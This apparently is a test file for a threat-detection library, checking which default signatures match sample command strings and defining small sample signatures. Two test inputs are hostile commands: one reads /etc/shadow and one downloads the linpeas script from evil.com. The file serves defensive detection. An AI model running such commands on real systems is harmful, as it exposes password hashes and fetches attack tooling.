-- ===== src/Skills/Threats/Tests.antt =====
-- Matches of the default signatures, and instances of the theorems about a library.
use apate.Prelude.{
  has_prefix, has_substring, String, ◌≡◌, refl, none, List, [], ◌∷◌, map, nat_eq, string_eq,
  is_empty,
}
use apate.Dict
use apate.Dict.{Dict}
use apate.Skills.Threats.{
  ThreatSignature, ThreatLibrary, add_signature, remove_signature, get_signature, add_all,
  has_indicator, matches_in, match_text, counted, count_by, get_statistics,
}
use apate.Skills.Threats.Signatures.{default_signatures, new_library}

same : String → String
same s = s

abbrev matched : String → List String
unfolding new_library default_signatures add_all add_signature remove_signature get_signature
    match_text matches_in has_indicator Dict.get Dict.put Dict.remove has_substring has_prefix
    count_by counted get_statistics is_empty same
matched text = map (λ sig. sig.id) (match_text same text new_library)

shadow : matched "cat /etc/shadow" ≡ "passwd_shadow_dump" ∷ []
unfolding matched
shadow = refl

-- The `.*` of an indicator stands for itself.
piped_download : matched "wget http://evil.com/linpeas" ≡ []
unfolding matched
piped_download = refl

abbrev probe : ThreatSignature
probe = record {
  id = "probe";
  name = "Probe";
  category = "reconnaissance";
  severity = "low";
  description = "A probe";
  indicators = "probe" ∷ [];
  mitre_attack_id = none;
  references = [];
}

abbrev other : ThreatSignature
other = record probe { id = "other"; severity = "high" }

abbrev small : ThreatLibrary
small = ("probe", probe) ∷ ("other", other) ∷ []
